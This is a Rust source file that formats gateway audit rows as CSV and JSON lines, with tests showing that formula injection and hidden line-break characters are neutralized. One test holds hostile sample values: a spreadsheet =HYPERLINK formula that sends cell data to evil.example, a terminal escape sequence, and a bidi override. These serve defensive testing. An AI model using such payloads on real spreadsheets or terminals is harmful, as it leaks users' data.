//! Audit rows as file text: the CSV and JSON lines that `portcullis audit --format csv|jsonl`
//! prints and the desktop viewer exports (DESIGN §7). One implementation, so both stay
//! byte-identical. Columns and keys are [`AuditRow::COLUMNS`], in that order; CSV adds `time`
//! after `time_ms`, the same instant as ISO-8601 UTC for the people who open it in a spreadsheet.
//!
//! One row is one physical line in both, whatever the text holds: readers that split a file into
//! lines before parsing (Python's `splitlines`, JavaScript's line terminators, `grep`) end lines
//! at more characters than `\n` ([`neutralize::is_line_break`]), and a row cut there is lost.
//!
//! - JSON lines stay exact: `serde_json` escapes C0 characters, and [`neutralize::json_text`]
//!   escapes the rest (NEL, U+2028/U+2029, C1, bidi controls) as `\uXXXX`, which every JSON
//!   parser reads back to the same text.
//! - CSV text cells go through [`neutralize::csv_cell`]: the text columns (tool, client name,
//!   reason, …) came from agents and servers, and a cell such as `=HYPERLINK(…)` would run as a
//!   formula in a spreadsheet; hidden characters, line breaks included, are shown as `\u{..}`.
//!   The `arguments` and `original_arguments` cells are compact JSON escaped like JSON lines,
//!   so `json.loads` of the cell gives the exact recorded value.

use serde_json::Value;

use crate::{neutralize, AuditRow};

/// The CSV column the time is repeated in as ISO-8601 UTC, and the column it follows.
const CSV_TIME: &str = "time";
const CSV_TIME_AFTER: &str = "time_ms";

/// The CSV's columns: [`AuditRow::COLUMNS`] with [`CSV_TIME`] after `time_ms`.
fn csv_columns() -> impl Iterator<Item = &'static str> {
    AuditRow::COLUMNS
        .iter()
        .flat_map(|c| std::iter::once(*c).chain((*c == CSV_TIME_AFTER).then_some(CSV_TIME)))
}

/// The CSV header line (no newline).
pub fn csv_header() -> String {
    csv_columns().collect::<Vec<_>>().join(",")
}

/// `time_ms` as ISO-8601 UTC with milliseconds, e.g. `2026-12-01T16:40:12.345Z`.
pub fn iso_time(time_ms: i64) -> String {
    let since_epoch = std::time::Duration::from_millis(time_ms.max(0).unsigned_abs());
    humantime::format_rfc3339_millis(std::time::UNIX_EPOCH + since_epoch).to_string()
}

/// The columns whose cells are JSON values rather than text.
const JSON_COLUMNS: [&str; 3] = ["arguments", "original_arguments", "findings"];

/// One row as a CSV line (no newline): RFC 4180 quoting, NULL as an empty cell, the arguments
/// as compact JSON ([`json_cell`]), text guarded against formulas ([`neutralize::csv_cell`]).
pub fn csv_row(row: &AuditRow) -> String {
    let value = serde_json::to_value(row).unwrap_or_default();
    csv_columns()
        .map(|c| match value.get(c) {
            _ if c == CSV_TIME => iso_time(row.time_ms),
            None | Some(Value::Null) => String::new(),
            Some(json) if JSON_COLUMNS.contains(&c) => json_cell(json),
            // Numbers are the gateway's own (ids, times, durations): `-1` is not a formula.
            Some(Value::Number(n)) => n.to_string(),
            Some(Value::String(s)) => neutralize::csv_cell(s),
            Some(other) => json_cell(other),
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// A JSON value as one CSV cell: compact JSON with no raw hidden character (so no line break),
/// which `json.loads` reads back exactly; quoted, and guarded should it start like a formula.
fn json_cell(value: &Value) -> String {
    neutralize::csv_cell(&one_line_json(value))
}

/// `value` as compact JSON with every hidden character escaped ([`neutralize::json_text`]).
fn one_line_json<T: serde::Serialize + ?Sized>(value: &T) -> String {
    neutralize::json_text(&serde_json::to_string(value).unwrap_or_default())
}

/// One row as a JSON object on one line (no newline).
pub fn jsonl_row(row: &AuditRow) -> String {
    one_line_json(row)
}

/// Rows as one pretty-printed JSON array (`audit --format json`), hidden characters escaped as
/// in JSON lines.
pub fn json_pretty(rows: &[AuditRow]) -> String {
    neutralize::json_text(&serde_json::to_string_pretty(rows).unwrap_or_default())
}

/// Header then rows, joined by newlines, with no trailing newline.
pub fn csv(rows: &[AuditRow]) -> String {
    std::iter::once(csv_header())
        .chain(rows.iter().map(csv_row))
        .collect::<Vec<_>>()
        .join("\n")
}

/// One line per row, joined by newlines, with no trailing newline.
pub fn jsonl(rows: &[AuditRow]) -> String {
    rows.iter().map(jsonl_row).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{DecidedBy, Decision};

    fn row() -> AuditRow {
        AuditRow {
            method: crate::Method::ToolsCall,
            id: 7,
            time_ms: 1_700_000_000_000,
            session: "s".into(),
            client_name: Some("claude, desktop".into()),
            client_version: None,
            server: "fs".into(),
            tool: "write_file".into(),
            arguments: serde_json::json!({"path": "/tmp/a\u{2028}b", "q": "say \"hi\""}),
            arguments_digest: "d".into(),
            decision: Decision::Approved,
            decided_by: DecidedBy::User,
            rule: Some("default".into()),
            reason: None,
            wait_ms: Some(1200),
            outcome: None,
            upstream_ms: None,
            request_id: Some("1".into()),
            original_arguments: None,
            answer: None,
            findings: None,
            answer_bytes: None,
        }
    }

    #[test]
    fn csv_has_the_columns_and_quotes_what_needs_it() {
        let text = csv(&[row()]);
        let mut lines = text.lines();
        let header = lines.next().unwrap();
        assert!(header.starts_with("id,time_ms,time,session,"), "{header}");
        assert_eq!(header.split(',').count(), AuditRow::COLUMNS.len() + 1, "{header}");
        let line = lines.next().unwrap();
        assert!(
            line.starts_with("7,1700000000000,2023-11-14T22:13:20.000Z,s,\"claude, desktop\",,fs,write_file,"),
            "{line}"
        );
        assert!(line.contains(r#""{""path"":"#), "arguments are quoted JSON: {line}");
        assert!(
            line.ends_with("d,approved,user,default,,1200,,,1,,tools/call,,,"),
            "{line} (no original_arguments, then the method, then no answer)"
        );
        assert_eq!(csv(&[]), csv_header(), "no rows: the header alone");
    }

    #[test]
    fn iso_times_are_utc_with_milliseconds() {
        assert_eq!(iso_time(0), "1970-01-01T00:00:00.000Z");
        assert_eq!(iso_time(1_764_607_212_345), "2025-12-01T16:40:12.345Z");
        assert_eq!(
            iso_time(-5),
            "1970-01-01T00:00:00.000Z",
            "a clock before 1970 is not a panic"
        );
    }

    #[test]
    fn csv_guards_hostile_text_and_jsonl_keeps_it_exact() {
        let mut hostile = row();
        hostile.tool = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into();
        hostile.client_name = Some("@cmd\u{1b}]0;pwned\u{7}".into());
        hostile.reason = Some("-2+3\u{202e}".into());
        let line = csv_row(&hostile);
        assert!(
            line.contains(r#",fs,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#),
            "{line}"
        );
        assert!(line.contains(r",'@cmd\u{1b}]0;pwned\u{7},"), "{line}");
        assert!(line.contains(r",'-2+3\u{202e},"), "{line}");
        assert!(!line.contains('\u{1b}') && !line.contains('\u{202e}'), "{line}");
        let back: AuditRow = serde_json::from_str(&jsonl_row(&hostile)).unwrap();
        assert_eq!(back, hostile, "JSON lines carry the exact text");
    }

    /// Every character some mainstream line reader ends a line at.
    const LINE_BREAKS: [char; 10] = [
        '\n', '\u{0b}', '\u{0c}', '\r', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}',
    ];

    /// A row with each line break in the arguments (a value and a key), the original arguments,
    /// the tool, the client name and the reason.
    fn row_with_line_breaks(brk: char) -> AuditRow {
        AuditRow {
            tool: format!("t{brk}x"),
            client_name: Some(format!("c{brk}")),
            reason: Some(format!("{brk}why, {brk}")),
            arguments: serde_json::json!({ "path": format!("/a{brk}b"), format!("k{brk}"): [format!("{brk}")] }),
            original_arguments: Some(serde_json::json!({ "q": format!("say \"{brk}\"") })),
            ..row()
        }
    }

    /// What a reader that splits on every line break sees: the non-empty lines.
    fn physical_lines(text: &str) -> Vec<&str> {
        text.split(neutralize::is_line_break)
            .filter(|l| !l.is_empty())
            .collect()
    }

    #[test]
    fn every_line_break_stays_inside_its_jsonl_row() {
        let rows: Vec<AuditRow> = LINE_BREAKS.iter().map(|c| row_with_line_breaks(*c)).collect();
        let text = jsonl(&rows);
        let lines = physical_lines(&text);
        assert_eq!(lines.len(), rows.len(), "{text}");
        for (line, want) in lines.iter().zip(&rows) {
            let back: AuditRow = serde_json::from_str(line).unwrap();
            assert_eq!(&back, want, "the exact text reads back");
        }
    }

    #[test]
    fn every_line_break_stays_inside_its_csv_row() {
        let rows: Vec<AuditRow> = LINE_BREAKS.iter().map(|c| row_with_line_breaks(*c)).collect();
        let text = csv(&rows);
        let lines = physical_lines(&text);
        assert_eq!(lines.len(), rows.len() + 1, "a header and one line per row:\n{text}");
        let header: Vec<String> = read_csv_line(lines[0]);
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        for (line, want) in lines[1..].iter().zip(&rows) {
            let cells = read_csv_line(line);
            assert_eq!(cells.len(), header.len(), "{line}");
            let arguments: Value = serde_json::from_str(&cells[column("arguments")]).unwrap();
            assert_eq!(arguments, want.arguments, "the arguments cell is exact JSON");
            let original: Value = serde_json::from_str(&cells[column("original_arguments")]).unwrap();
            assert_eq!(Some(original), want.original_arguments);
            assert_eq!(
                cells[column("tool")],
                neutralize::terminal(&want.tool),
                "text is shown visibly"
            );
        }
    }

    /// One RFC 4180 line into its cells (quoted cells unquoted, `""` read as `"`).
    fn read_csv_line(line: &str) -> Vec<String> {
        let (mut cells, mut cell, mut quoted, mut chars) = (Vec::new(), String::new(), false, line.chars().peekable());
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => cells.push(std::mem::take(&mut cell)),
                (c, _) => cell.push(c),
            }
        }
        assert!(!quoted, "an unterminated quote: {line}");
        cells.push(cell);
        cells
    }

    #[test]
    fn pretty_json_escapes_what_line_readers_and_terminals_obey() {
        let rows = [row_with_line_breaks('\u{85}'), row_with_line_breaks('\u{2028}')];
        let text = json_pretty(&rows);
        assert!(!text.contains(['\u{85}', '\u{2028}']), "{text}");
        let back: Vec<AuditRow> = serde_json::from_str(&text).unwrap();
        assert_eq!(back, rows);
    }

    #[test]
    fn jsonl_is_one_object_per_line_even_with_unicode_line_separators() {
        let text = jsonl(&[row(), row()]);
        assert_eq!(text.split('\n').count(), 2);
        assert!(!text.contains('\u{2028}'));
        let back: AuditRow = serde_json::from_str(text.split('\n').next().unwrap()).unwrap();
        assert_eq!(back, row());
        assert_eq!(jsonl(&[]), "");
    }
}
